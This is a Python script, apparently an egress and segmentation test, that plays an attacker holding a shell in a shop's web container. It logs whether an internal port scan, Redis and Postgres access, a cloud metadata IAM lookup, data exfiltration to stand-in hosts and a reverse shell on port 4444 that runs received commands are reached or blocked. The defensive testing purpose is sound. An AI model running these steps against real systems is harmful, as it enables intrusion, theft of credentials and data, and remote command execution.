"""What an attacker with a shell in the web container tries. One JSON line for each step: reached or blocked."""

import concurrent.futures
import json
import socket
import subprocess
import time
import urllib.request


def step(name):
    def run(attempt):
        began = time.monotonic()
        try:
            result, detail = "reached", attempt()
        except Exception as error:
            result, detail = "blocked", f"{type(error).__name__}: {error}"
        took = int((time.monotonic() - began) * 1000)
        print(json.dumps({"step": name, "result": result, "detail": str(detail)[:300], "ms": took}), flush=True)

    return run


def own_addresses():
    lines = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True).stdout.splitlines()
    addresses = [line.split()[3].split("/")[0] for line in lines]
    return [address for address in addresses if not address.startswith("127.")]


@step("scan")
def scan():
    own = own_addresses()
    targets = [
        (f"{address.rsplit('.', 1)[0]}.{last}", port)
        for address in own
        for last in range(1, 15)
        for port in (22, 25, 80, 443, 3306, 5432, 6379, 8080, 9000, 9090)
    ]

    def probe(target):
        try:
            socket.create_connection(target, timeout=1).close()
            return "%s:%d" % target
        except OSError:
            return None

    with concurrent.futures.ThreadPoolExecutor(48) as pool:
        found = [hit for hit in pool.map(probe, (t for t in targets if t[0] not in own)) if hit]
    # The shop's own way, web to api, stays open: it is no discovery for an attacker who holds web.
    news = sorted(hit for hit in found if not hit.endswith(":9000"))
    if not news:
        raise ConnectionError(f"{len(targets)} probes, nothing open but the api")
    return f"{len(targets)} probes, {len(news)} open that web has no business with: {', '.join(news)}"


@step("redis")
def redis():
    with socket.create_connection(("redis", 6379), timeout=3) as connection:
        connection.sendall(b"KEYS *\r\n")
        return connection.recv(200)


@step("postgresql")
def postgresql():
    import psycopg2

    connection = psycopg2.connect("host=db dbname=shop user=shop password=shop connect_timeout=3")
    cursor = connection.cursor()
    cursor.execute("select count(*) from orders")
    return f"{cursor.fetchone()[0]} orders read"


@step("metadata")
def metadata():
    return urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam", timeout=3).read()


@step("exfiltration")
def exfiltration():
    return urllib.request.urlopen("http://203.0.113.66/", data=b"x" * 4096, timeout=3).read()


@step("exfiltration over IPv6")
def exfiltration6():
    return urllib.request.urlopen("http://[2001:db8:cafe::66]/", data=b"x" * 4096, timeout=3).read()


@step("reverse shell")
def reverse_shell():
    with socket.create_connection(("203.0.113.66", 4444), timeout=3) as connection:
        command = connection.recv(100).decode()
        connection.sendall(subprocess.run(command, shell=True, capture_output=True).stdout)
        return f"ran {command.strip()!r} for the attacker"
